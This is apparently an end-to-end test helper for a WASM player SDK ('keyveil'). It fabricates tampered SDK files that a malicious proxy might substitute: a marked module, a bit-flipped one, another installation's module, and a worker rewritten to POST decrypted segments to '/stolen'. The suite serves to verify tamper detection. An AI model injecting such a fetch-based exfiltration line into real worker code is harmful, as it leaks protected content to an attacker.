// What a proxy may put in the place of the SDK's files.
import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { binary, ROOT, remove, scratch } from "../../e2e/lib/installation.mjs";

const SDK = join(ROOT, "player-wasm", "dist");
/** Of a custom section, which no engine looks at: the module does all that it did. */
export const MARK = "altered";

/** The same module with a section more. */
export function marked(wasm) {
  const name = Buffer.from(MARK);
  const content = Buffer.concat([Buffer.from([name.length]), name]);
  return Buffer.concat([wasm, Buffer.from([0, content.length]), content]);
}

export function bitFlipped(wasm) {
  const altered = Buffer.from(wasm);
  altered[altered.length >> 1] ^= 1;
  return altered;
}

/** The module before it is made an installation's. */
export const template = () => readFileSync(join(SDK, "keyveil.wasm"));

/** The module of another installation, as good as this one's in all but whom it belongs to. */
export function foreign() {
  const data = scratch();
  try {
    const env = { ...process.env, KEYVEIL_DATA: data };
    const out = join(data, "sdk");
    execFileSync(binary("key-server"), ["init"], { env, stdio: "pipe" });
    execFileSync(binary("key-server"), ["build", "write", "--sdk", SDK, "--out", out], { env, stdio: "pipe" });
    return readFileSync(join(out, JSON.parse(readFileSync(join(out, "sdk.json"), "utf8")).wasm));
  } finally {
    remove(data);
  }
}

/** The worker with a line more where it hands clear segments on: they are sent to `/stolen` too. */
export function thievingWorker(source) {
  const handsOn = /bytes:\s*(\w+\.take\(\))/g;
  if (source.match(handsOn)?.length !== 1)
    throw new Error("the worker's code is another: this attack must be written anew");
  const stealing = (_all, clear) =>
    `bytes:(stolen=>(fetch("/stolen",{method:"POST",body:stolen.slice()}),stolen))(${clear})`;
  return source.replace(handsOn, stealing);
}
